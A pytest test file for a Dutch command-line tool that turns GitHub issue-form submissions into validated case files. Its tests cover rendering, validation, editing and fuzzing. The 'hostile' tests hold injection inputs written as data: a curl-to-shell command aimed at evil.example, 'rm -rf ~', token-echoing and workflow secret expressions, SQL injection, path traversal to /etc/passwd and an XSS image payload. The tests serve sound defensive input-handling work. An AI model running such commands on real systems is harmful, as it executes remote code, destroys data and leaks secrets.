"""`zodoenwedat from-issue`: a filled-in issue form becomes a case file, safely.

The bodies are built from the committed form file itself, the way GitHub renders a
filled-in form: for every field "### <label>", a blank line and the answer
("_No response_" when empty), a multi-select dropdown's choices joined with ", ",
checkboxes as "- [X] label". Each conversion runs the real command in a copy of the
repository and the result is read back with the YAML loader and the validator.
"""

from __future__ import annotations

import datetime as dt
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import REPO
from support.repository import copy_repository

from zodoenwedat.casefile import split_front_matter
from zodoenwedat.cli import main
from zodoenwedat.fromissue import COMMENT_MARKER, convert
from zodoenwedat.issueform import LABEL
from zodoenwedat.issueform import PATH as FORM_PATH
from zodoenwedat.models import Case
from zodoenwedat.repository import load_repository

FORM = yaml.safe_load((REPO / FORM_PATH).read_text(encoding="utf-8"))
ITEMS = [item for item in FORM["body"] if item["type"] != "markdown"]
BY_ID = {item["id"]: item for item in ITEMS}
NO_RESPONSE = "_No response_"


def _label(field_id: str) -> str:
    return BY_ID[field_id]["attributes"]["label"]


def _option(field_id: str, code: str) -> str:
    """The dropdown option the editor picks for a code ("Label (code)")."""
    (option,) = [o for o in BY_ID[field_id]["attributes"]["options"] if o.endswith(f"({code})")]
    return option


def render(answers: dict[str, Any]) -> str:
    """The issue body GitHub makes from the form with these answers.

    Dropdown answers are lists of options, checkbox answers lists of booleans (all
    ticked when absent), other answers text (``None`` or "" for a field left empty).
    """
    sections = []
    for item in ITEMS:
        answer = answers.get(item["id"])
        if item["type"] == "checkboxes":
            options = item["attributes"]["options"]
            ticked = answer if answer is not None else [True] * len(options)
            text = "\n".join(f"- [{'X' if tick else ' '}] {o['label']}" for o, tick in zip(options, ticked, strict=False))
        elif item["type"] == "dropdown":
            text = ", ".join(answer) if answer else NO_RESPONSE
        else:
            text = answer if answer else NO_RESPONSE
        sections.append(f"### {item['attributes']['label']}\n\n{text}")
    return "\n\n".join(sections)


def placeholder_answers() -> dict[str, Any]:
    """The form filled in with its own examples: placeholders, and the model's examples for dropdowns."""
    answers: dict[str, Any] = {}
    for item in ITEMS:
        if item["type"] in ("input", "textarea"):
            answers[item["id"]] = item["attributes"]["placeholder"]
        elif item["type"] == "dropdown":
            examples = Case.model_fields[item["id"]].examples or [[]]
            codes = examples[0] if isinstance(examples[0], list) else [examples[0]]
            answers[item["id"]] = [_option(item["id"], code) for code in codes]
    return answers


class Run:
    def __init__(self, code: int, out: str, err: str, comment: str):
        self.code, self.out, self.err, self.comment = code, out, err, comment


def from_issue(root: Path, body: str | bytes, capsys, *extra: str) -> Run:
    body_file = root.parent / "issue-body.md"
    comment_file = root.parent / "comment.md"
    body_file.write_bytes(body if isinstance(body, bytes) else body.encode("utf-8"))
    comment_file.unlink(missing_ok=True)
    code = main(["--root", str(root), "from-issue", str(body_file), "--comment", str(comment_file), *extra])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return Run(code, out, err, comment_file.read_text(encoding="utf-8") if comment_file.exists() else "")


def front_matter(path: Path) -> dict:
    front = split_front_matter(path.read_text(encoding="utf-8"))[0]
    assert front is not None, f"{path} has no front matter"
    return yaml.safe_load(front)


def tree(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root.parent).as_posix(): p.read_bytes()
        for p in sorted(root.parent.rglob("*"))
        if p.is_file() and not p.name.startswith(("issue-body", "comment"))
    }


def assert_problem(run: Run, field_id: str | None, *words: str) -> None:
    """Exit 1, and a Dutch problem for the field, named by the label the editor saw."""
    assert run.code == 1, run.out + run.err
    where = _label(field_id) if field_id else "Het issue"
    lines = [line for line in run.err.splitlines() if line.startswith(f"- {where}:") or line.startswith(f"- {where}, regel")]
    assert lines, f"no problem for {where!r} in:\n{run.err}"
    for word in words:
        assert any(word in line for line in lines), f"{word!r} not in the problems for {where!r}:\n{run.err}"
    assert run.comment.startswith(COMMENT_MARKER) and run.out == ""


# ------------------------------------------------------------- the form --


def test_the_form_carries_the_label_the_workflow_listens_for():
    assert FORM["labels"] == [LABEL]


def test_placeholders_convert_as_they_stand(repo_copy, capsys):
    run = from_issue(repo_copy, render(placeholder_answers()), capsys)
    assert run.code == 0, run.err
    path = repo_copy / run.out.strip()
    assert run.out.strip() == "cases/ruwaard-in-oss.md"
    data = front_matter(path)
    assert data["title"] == BY_ID["title"]["attributes"]["placeholder"]
    partner_lines = BY_ID["partners"]["attributes"]["placeholder"].splitlines()
    assert len(data["partners"]) == len(partner_lines) == 2
    assert "name" not in data["partners"][1]  # the second example leaves the name empty
    assert len(data["sources"]) == len(BY_ID["sources"]["attributes"]["placeholder"].splitlines())
    assert data["contact"]["email"] == "info@voorbeeld.nl"
    # The whole repository, the new file included, passes the validator.
    repo = load_repository(repo_copy)
    assert repo.problems.sorted() == []
    assert "ruwaard-in-oss" in repo.cases
    assert main(["--root", str(repo_copy), "validate"]) == 0


def test_every_field_type_converts_to_the_model_fields(repo_copy, capsys):
    themes = [o for o in BY_ID["themes"]["attributes"]["options"] if ", " in o]
    assert themes, "the test needs a theme whose label contains a comma"
    answers = placeholder_answers() | {
        "title": "Samen wonen in  de Vogelwijk",
        "summary": "Een corporatie en een zorgorganisatie\nwerken samen aan een wijk waar bewoners elkaar kennen en helpen.",
        "place": "Den Haag",
        "neighbourhood": "Vogelwijk",
        "province": [_option("province", "zuid-holland")],
        "themes": [themes[0], _option("themes", "leefbaarheid"), _option("themes", "participatie")],
        "target_groups": [_option("target_groups", "ouderen")],
        "phase": [_option("phase", "pilot")],
        "started": "2021",
        "partners": (
            "Woningcorporatie | Woonstichting Vogelwijk | Verhuurt de woningen | https://www.vogelwijk.example.nl/\n"
            "\n"
            "- zorgorganisatie | | Biedt begeleiding aan huis\n"
            "gemeente"
        ),
        "sources": "Samen wonen in de wijk | Vogelkrant | | 2023-04-01\nTweede artikel | Buurtblad | https://www.buurtblad.nl/artikel",
        "contact": "Woonstichting Vogelwijk | | info@vogelwijk.nl",
        "resultaten": "Bewoners kennen elkaar beter.",
        "lessen": None,
    }
    run = from_issue(repo_copy, render(answers), capsys)
    assert run.code == 0, run.err
    assert run.out.strip() == "cases/samen-wonen-in-de-vogelwijk.md"
    path = repo_copy / run.out.strip()
    data = front_matter(path)
    assert data == {
        "title": "Samen wonen in de Vogelwijk",
        "summary": "Een corporatie en een zorgorganisatie werken samen aan een wijk waar bewoners elkaar kennen en helpen.",
        "place": "Den Haag",
        "neighbourhood": "Vogelwijk",
        "province": "zuid-holland",
        "themes": [themes[0].rsplit("(", 1)[1].rstrip(")"), "leefbaarheid", "participatie"],
        "partners": [
            {
                "type": "woningcorporatie",
                "name": "Woonstichting Vogelwijk",
                "role": "Verhuurt de woningen",
                "url": "https://www.vogelwijk.example.nl/",
            },
            {"type": "zorgorganisatie", "role": "Biedt begeleiding aan huis"},
            {"type": "gemeente"},
        ],
        "target_groups": ["ouderen"],
        "phase": "pilot",
        "started": 2021,
        "published": dt.date.today(),
        "sources": [
            {"title": "Samen wonen in de wijk", "publisher": "Vogelkrant", "date": dt.date(2023, 4, 1)},
            {"title": "Tweede artikel", "publisher": "Buurtblad", "url": "https://www.buurtblad.nl/artikel"},
        ],
        "contact": {"organisation": "Woonstichting Vogelwijk", "email": "info@vogelwijk.nl"},
    }
    text = path.read_text(encoding="utf-8")
    body = split_front_matter(text)[2]
    assert [line for line in body.splitlines() if line.startswith("## ")] == ["## Aanleiding", "## Aanpak", "## Resultaten"]
    assert answers["aanpak"] in body and "Bewoners kennen elkaar beter." in body
    assert load_repository(repo_copy).problems.sorted() == []


def test_every_multi_select_choice_at_once(repo_copy, capsys):
    """GitHub joins choices with ", "; labels with ", " inside are resolved against the options."""
    options = BY_ID["target_groups"]["attributes"]["options"]
    themes = BY_ID["themes"]["attributes"]["options"][:6]  # at most 6 themes
    run = from_issue(repo_copy, render(placeholder_answers() | {"themes": themes, "target_groups": options}), capsys)
    assert run.code == 0, run.err
    data = front_matter(repo_copy / run.out.strip())
    assert data["themes"] == [o.rsplit("(", 1)[1].rstrip(")") for o in themes]
    assert data["target_groups"] == [o.rsplit("(", 1)[1].rstrip(")") for o in options]


def test_stdin_and_no_traceback(repo_copy):
    body = render(placeholder_answers())
    result = subprocess.run(
        [sys.executable, "-m", "zodoenwedat.cli", "--root", str(repo_copy), "from-issue", "-"],
        input=body.encode(),
        capture_output=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr.decode()
    assert result.stdout.decode().strip() == "cases/ruwaard-in-oss.md"
    bad = subprocess.run(
        [sys.executable, "-m", "zodoenwedat.cli", "--root", str(repo_copy), "from-issue", "-"],
        input=b"### Titel\n\n\xff\xfe",
        capture_output=True,
        timeout=120,
    )
    assert bad.returncode == 1 and b"Traceback" not in bad.stderr
    assert "UTF-8" in bad.stderr.decode()


# ---------------------------------------------------------- problems ----


REQUIRED = [item["id"] for item in ITEMS if item.get("validations", {}).get("required")]


@pytest.mark.parametrize("field_id", REQUIRED)
def test_a_required_field_left_empty(repo_copy, capsys, field_id):
    before = tree(repo_copy)
    run = from_issue(repo_copy, render(placeholder_answers() | {field_id: None}), capsys)
    assert_problem(run, field_id, "verplicht")
    assert tree(repo_copy) == before
    assert f"**{_label(field_id)}**".replace("(", "\\(").replace(")", "\\)") in run.comment


def test_required_checkboxes_must_be_ticked(repo_copy, capsys):
    run = from_issue(repo_copy, render(placeholder_answers() | {"akkoord": [True, False]}), capsys)
    assert_problem(run, "akkoord", "persoonsgegevens")


def test_every_problem_at_once_each_by_its_label(repo_copy, capsys):
    before = tree(repo_copy)
    answers = placeholder_answers() | {
        "title": None,
        "phase": ["Bestaat niet"],
        "started": "ooit",
        "partners": "zorg organisatie | Naam\nwoningcorporatie | Naam | Rol | https://www.voorbeeld.nl/ | te veel",
        "sources": "Artikel | Krant | http://www.krant.nl/\nArtikel | Krant | | 2023-02-30",
        "aanpak": BY_ID["aanpak"]["attributes"]["placeholder"] + "\n\nBel ons: 06-12345678. Zie <b>dit</b>.",
    }
    run = from_issue(repo_copy, render(answers), capsys)
    assert_problem(run, "title", "verplicht")
    assert_problem(run, "phase", "Bestaat niet", "Kies uit")
    assert_problem(run, "started", "jaartal")
    assert_problem(run, "partners", "regel 1", "zorg organisatie", "regel 2", "hoogstens 4")
    assert_problem(run, "sources", "regel 1", "https://", "regel 2", "datum")
    assert_problem(run, "aanpak", "regel 3", "telefoonnummer", "HTML")
    assert tree(repo_copy) == before


def test_validator_messages_use_the_form_names(repo_copy, capsys):
    run = from_issue(repo_copy, render(placeholder_answers() | {"partners": "gemeente | | " + "x" * 301}), capsys)
    assert_problem(run, "partners", "regel 1", "'wat de partner doet' is te lang")
    assert "partners[1]" not in run.err


# ----------------------------------------------------------- hostile ----


def test_shell_and_workflow_syntax_stay_text(repo_copy, capsys):
    hostile = {
        "title": "Wonen $(curl evil.example | sh) `id` ${{ github.token }}",
        "summary": "Samenwerking in de wijk; echo $GITHUB_TOKEN && $(rm -rf ~) ${{ secrets.GITHUB_TOKEN }} en meer tekst.",
        "place": "Oss'; DROP TABLE cases; --",
        "partners": "gemeente | ${{ github.event.issue.title }} | $(whoami)",
    }
    run = from_issue(repo_copy, render(placeholder_answers() | hostile), capsys)
    assert run.code == 0, run.err
    data = front_matter(repo_copy / run.out.strip())
    assert data["title"] == hostile["title"]
    assert data["summary"] == hostile["summary"]
    assert data["place"] == hostile["place"]
    assert data["partners"] == [{"type": "gemeente", "name": "${{ github.event.issue.title }}", "role": "$(whoami)"}]
    assert run.out.strip() == "cases/wonen-curl-evil-example-sh-id-github-token.md"


def test_a_textarea_cannot_open_new_front_matter(repo_copy, capsys):
    summary = "---\ntitle: Gehackt\nrelated: [ruwaard-oss]\n---\nEen samenvatting die lang genoeg is om geldig te zijn."
    run = from_issue(repo_copy, render(placeholder_answers() | {"summary": summary}), capsys)
    assert run.code == 0, run.err
    data = front_matter(repo_copy / run.out.strip())
    assert data["title"] == BY_ID["title"]["attributes"]["placeholder"]
    assert "related" not in data and data["summary"] == " ".join(summary.split())
    assert set(data) <= set(Case.model_fields)


def test_a_body_section_cannot_open_new_front_matter(repo_copy, capsys):
    before = tree(repo_copy)
    aanleiding = "---\ntitle: Gehackt\n---\n" + BY_ID["aanleiding"]["attributes"]["placeholder"]
    run = from_issue(repo_copy, render(placeholder_answers() | {"aanleiding": aanleiding}), capsys)
    assert_problem(run, "aanleiding", "regel 3")
    assert tree(repo_copy) == before


def test_a_heading_of_the_form_inside_an_answer(repo_copy, capsys):
    aanleiding = BY_ID["aanleiding"]["attributes"]["placeholder"] + "\n\n### Aanpak\n\nNep."
    run = from_issue(repo_copy, render(placeholder_answers() | {"aanleiding": aanleiding}), capsys)
    assert_problem(run, "aanpak", "meer dan één keer")


@pytest.mark.parametrize("title", ["../../etc/passwd", "..\\..\\cases\\..\\x", "/tmp/zo", "Ruwaard/../../../in Oss", "...."])
def test_a_title_never_makes_a_path_outside_cases(repo_copy, capsys, title):
    before = tree(repo_copy)
    run = from_issue(repo_copy, render(placeholder_answers() | {"title": title}), capsys)
    after = tree(repo_copy)
    new = set(after) - set(before)
    if run.code == 0:
        assert new == {f"repo/{run.out.strip()}"}
        assert run.out.strip().startswith("cases/") and "/" not in run.out.strip()[len("cases/") :]
        assert front_matter(repo_copy / run.out.strip())["title"] == title
    else:  # a title that is no plain text of 3 characters or more
        assert new == set()
        assert_problem(run, "title")
    assert {k: v for k, v in after.items() if k in before} == before


@pytest.mark.parametrize(
    ("field_id", "value", "words"),
    [
        ("title", "Wonen " * 2000, ("te lang",)),
        ("summary", "Lang " * 5000, ("te lang",)),
        ("neighbourhood", "W" * 500, ("te lang",)),
        ("aanpak", "woord " * 30_000, ("te lang",)),
        ("partners", "gemeente | " + "N" * 200, ("regel 1", "te lang")),
    ],
)
def test_overlong_answers(repo_copy, capsys, field_id, value, words):
    before = tree(repo_copy)
    run = from_issue(repo_copy, render(placeholder_answers() | {field_id: value}), capsys)
    assert_problem(run, field_id, *words)
    assert tree(repo_copy) == before


def test_an_overlong_issue(repo_copy, capsys):
    run = from_issue(repo_copy, render(placeholder_answers() | {"lessen": "x" * (3 * 1024 * 1024)}), capsys)
    assert_problem(run, None, "te lang")


@pytest.mark.parametrize(
    ("field_id", "value"),
    [
        ("title", "Wonen\x1b[31m in Oss"),
        ("place", "Oss\x00"),
        ("summary", "Een samenvatting met een belletje \x07 erin, lang genoeg om verder geldig te zijn."),
        ("aanleiding", "Eerste regel.\nTweede regel met \x08 backspace."),
        ("partners", "gemeente | Naam\x7f"),
        ("title", "Wonen in \u202eSSO"),
    ],
)
def test_control_characters(repo_copy, capsys, field_id, value):
    before = tree(repo_copy)
    run = from_issue(repo_copy, render(placeholder_answers() | {field_id: value}), capsys)
    assert_problem(run, field_id)
    assert tree(repo_copy) == before


def test_a_body_not_made_with_the_form(repo_copy, capsys):
    run = from_issue(repo_copy, "Hallo, ik heb een mooi voorbeeld uit Zwolle.", capsys)
    assert_problem(run, None, "formulier")


def test_the_comment_repeats_no_markup_or_mentions(repo_copy, capsys):
    run = from_issue(
        repo_copy,
        render(placeholder_answers() | {"phase": ["<img src=x onerror=alert(1)> @octocat [link](https://evil.example)"]}),
        capsys,
    )
    assert run.code == 1
    assert "<img" not in run.comment and "@octocat" not in run.comment and "](" not in run.comment
    assert "&lt;img" in run.comment


# ------------------------------------------------------------ editing ----


def test_an_edited_issue_updates_its_own_file(repo_copy, capsys):
    answers = placeholder_answers()
    first = from_issue(repo_copy, render(answers), capsys, "--issue", "7")
    assert first.code == 0, first.err
    path = first.out.strip()
    assert first.comment.startswith(COMMENT_MARKER) and f"`{path}`" in first.comment

    edited = answers | {"summary": "Een nieuwe samenvatting, want het issue is aangepast door de indiener ervan."}
    second = from_issue(repo_copy, render(edited), capsys, "--issue", "7")
    assert second.code == 0, second.err
    assert second.out.strip() == path
    assert front_matter(repo_copy / path)["summary"] == edited["summary"]
    assert sorted(p.name for p in (repo_copy / "cases").glob("ruwaard-in-oss*")) == ["ruwaard-in-oss.md"]

    # An edit that breaks the form leaves the last good file as it was.
    kept = (repo_copy / path).read_bytes()
    broken = from_issue(repo_copy, render(edited | {"title": None}), capsys, "--issue", "7")
    assert broken.code == 1 and (repo_copy / path).read_bytes() == kept

    # A new title: a new file name, and the issue's old file goes.
    renamed = from_issue(repo_copy, render(edited | {"title": "Ruwaard in Oss, opnieuw"}), capsys, "--issue", "7")
    assert renamed.code == 0, renamed.err
    assert renamed.out.strip() == "cases/ruwaard-in-oss-opnieuw.md"
    assert not (repo_copy / path).exists()

    # Another issue with the same title never replaces issue 7's file.
    other = from_issue(repo_copy, render(edited | {"title": "Ruwaard in Oss, opnieuw"}), capsys, "--issue", "8")
    assert other.code == 0, other.err
    assert other.out.strip() == "cases/ruwaard-in-oss-opnieuw-2.md"
    assert front_matter(repo_copy / "cases/ruwaard-in-oss-opnieuw.md")["summary"] == edited["summary"]
    assert load_repository(repo_copy).problems.sorted() == []


def test_never_over_an_existing_case(repo_copy, capsys):
    existing = repo_copy / "cases" / "oslostraat-almere.md"
    before = existing.read_bytes()
    run = from_issue(repo_copy, render(placeholder_answers() | {"title": "Oslostraat, Almere"}), capsys)
    assert run.code == 0, run.err
    assert run.out.strip() == "cases/oslostraat-almere-2.md"
    assert "oslostraat-almere" in run.err and "oslostraat-almere-2" in run.comment
    assert existing.read_bytes() == before
    # The same body again, without an issue number: yet another name, never a replacement.
    again = from_issue(repo_copy, render(placeholder_answers() | {"title": "Oslostraat, Almere"}), capsys)
    assert again.out.strip() == "cases/oslostraat-almere-3.md"


def test_a_title_that_is_an_old_name_of_a_case(repo_copy, capsys):
    case = repo_copy / "cases" / "ruwaard-oss.md"
    case.write_text(
        case.read_text(encoding="utf-8").replace("\nphase:", "\naliases: [wijk-ruwaard]\nphase:", 1), encoding="utf-8"
    )
    assert load_repository(repo_copy).problems.sorted() == []
    run = from_issue(repo_copy, render(placeholder_answers() | {"title": "Wijk Ruwaard"}), capsys)
    assert run.out.strip() == "cases/wijk-ruwaard-2.md", run.err


# ---------------------------------------------------------- any text ----

TEXT_FIELDS = [item["id"] for item in ITEMS if item["type"] in ("input", "textarea")]


@pytest.fixture(scope="module")
def fuzz_root(tmp_path_factory) -> Path:
    return copy_repository(tmp_path_factory.mktemp("from-issue") / "repo")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(
    field_id=st.sampled_from(TEXT_FIELDS),
    text=st.text(st.characters(codec="utf-8"), max_size=300)
    | st.sampled_from(
        ["---", "### Titel", "_No response_", "a | b | c | d | e", "- [X] x", "${{ github.token }}", "$(id)", "\r\n\r\n"]
    ),
)
def test_any_answer_gives_a_valid_case_or_named_problems(fuzz_root, field_id, text):
    """Whatever is typed into a field: never an exception; a valid case whose fields are the
    model's, or problems that each name a field of the form, and then no file."""
    before = sorted(p.name for p in (fuzz_root / "cases").iterdir())
    result = convert(fuzz_root, render(placeholder_answers() | {field_id: text}))
    labels = {item["attributes"]["label"] for item in ITEMS}
    for problem in result.problems:
        assert problem.label is None or problem.label in labels, problem
        assert problem.message.strip()
    if result.problems:
        assert result.path is None
        assert sorted(p.name for p in (fuzz_root / "cases").iterdir()) == before
        return
    assert re.fullmatch(r"cases/[a-z0-9]+(-[a-z0-9]+)*\.md", result.path)
    written = fuzz_root / result.path
    try:
        assert set(front_matter(written)) <= set(Case.model_fields)
        assert load_repository(fuzz_root).problems.for_path(result.path) == []
    finally:
        written.unlink()
